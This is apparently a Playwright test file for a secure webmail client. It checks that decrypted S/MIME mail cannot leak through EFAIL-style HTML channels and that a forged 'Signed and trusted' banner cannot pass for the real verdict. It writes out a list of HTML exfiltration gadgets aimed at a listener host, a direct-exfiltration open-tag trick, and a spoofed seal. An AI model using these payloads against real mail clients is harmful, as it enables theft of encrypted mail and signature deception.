import { directoryAnswer } from '#shared/contract/directory.ts'
import { type Bytes, utf8 } from '#shared/bytes.ts'
import { parseCertificate } from '#shared/x509/certificate.ts'
import { envelopeTo } from '#test/support/envelopes.ts'
import { cmsPart, mailAround, parted, rawMail } from '#test/support/mail-around.ts'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { startListener } from './listener.ts'
import { verdict } from './steps.ts'

/** Encrypted to Alice's own key by CBC, as somebody who takes down her mail can make it come out. */
async function encryptedToAlice(page: Page, entity: string): Promise<Bytes> {
  const path = '/api/v1/directory/certificates?address=alice@example.com'
  const answer = await page.request.get(new URL(path, page.url()).href)
  const [first] = directoryAnswer.parse(await answer.json()).certificates
  const [der] = first?.chain ?? []
  if (der === undefined) throw new Error('Alice has no certificate')
  return envelopeTo([parseCertificate(der)], utf8(entity), 'aes-256-cbc')
}

async function openFile(page: Page, bytes: Bytes): Promise<void> {
  const chooser = page.waitForEvent('filechooser')
  await page.getByRole('button', { name: 'Open a message file' }).click()
  const buffer = Buffer.from(bytes)
  await (await chooser).setFiles({ name: 'mail.eml', mimeType: 'message/rfc822', buffer })
}

/** Ways of HTML to carry off what stands behind them (EFAIL, USENIX Security 2018, appendix). */
const channels = (origin: string) => `<p>The secret plan.</p>
<img src="${origin}/img?The secret plan"><img srcset="${origin}/set 1x"><style>@import '${origin}/import';
body { background: url(${origin}/background) } @font-face { font-family: f; src: url(${origin}/font) }</style>
<link rel="prefetch" href="${origin}/prefetch"><link rel="dns-prefetch preconnect" href="${origin}/">
<object data="${origin}/object"></object><audio src="${origin}/audio" autoplay></audio><table background="${origin}/table">
<form action="${origin}/form"><input type="image" src="${origin}/input"></form><iframe src="${origin}/frame"></iframe>
<meta http-equiv="refresh" content="0; url=${origin}/refresh"><a href="${origin}/ping" ping="${origin}/ping">More</a>`

test('Decrypted HTML of CBC gadgets reaches nobody, and cannot be let out by hand', async ({
  openAs,
}) => {
  const page = await openAs('alice')
  const eve = await startListener()
  const html = `Content-Type: text/html\r\n\r\n${channels(eve.origin)}\r\n`
  await openFile(page, mailAround(await encryptedToAlice(page, html), 'enveloped-data'))
  await expect(verdict(page)).toContainText('Encrypted, not signed')
  const mail = page.frameLocator('iframe[title="Message text"]').frameLocator('iframe')
  await expect(mail.getByText('The secret plan.')).toBeVisible()
  await expect(page.getByRole('button', { name: /(load|show).*images/i })).toHaveCount(0)
  await page.waitForTimeout(500) // time for a request that should not come
  await fetch(`${eve.origin}/control`) // it would have heard
  expect(eve.heard).toEqual(['/control'])
  await eve.stop()
})

test('An element left open takes up no decrypted text, and the ciphertext behind it stays closed', async ({
  openAs,
}) => {
  const page = await openAs('alice')
  const eve = await startListener()
  const secret = 'Content-Type: text/plain\r\n\r\nThe secret plan.\r\n'
  const object = await encryptedToAlice(page, secret)
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  const html = (text: string) => utf8(`Content-Type: text/html\r\n\r\n${text}\r\n`)
  const body = parted(
    html(`<p>Look</p><img src="${eve.origin}/?`),
    cmsPart(object, 'enveloped-data'),
    html('">'),
  )
  await openFile(
    page,
    rawMail(['From: eve@example.com', 'Content-Type: multipart/mixed; boundary=b'], body),
  )
  await expect(verdict(page)).toContainText('Not signed, not encrypted')
  await expect(page.getByText('The secret plan.')).toHaveCount(0)
  await page.waitForTimeout(500) // time for a request that should not come
  await fetch(`${eve.origin}/control`) // it would have heard
  expect(eve.heard).toEqual(['/control'])
  expect(asked.filter((path) => path.includes('unwrap'))).toEqual([])
  await eve.stop()
})

test('A seal painted into the text is not the verdict, which stands outside of it', async ({
  openAs,
}) => {
  const page = await openAs('alice')
  const seal = `<div role="region" aria-label="Verdict" style="position:fixed;top:0;left:0;width:100vw;color:green">
    <p>Signed and trusted</p></div><p>You are fired.</p>`
  const mail = `From: bob@example.com\r\nContent-Type: text/html\r\n\r\n${seal}\r\n`
  await openFile(page, utf8(mail))
  const frame = page.locator('iframe[title="Message text"]')
  await expect(
    frame.contentFrame().frameLocator('iframe').getByText('You are fired.'),
  ).toBeVisible()
  await expect(verdict(page)).toContainText('Not signed, not encrypted')
  const [above, inside] = [await verdict(page).boundingBox(), await frame.boundingBox()]
  expect(above!.y + above!.height).toBeLessThanOrEqual(inside!.y)
})
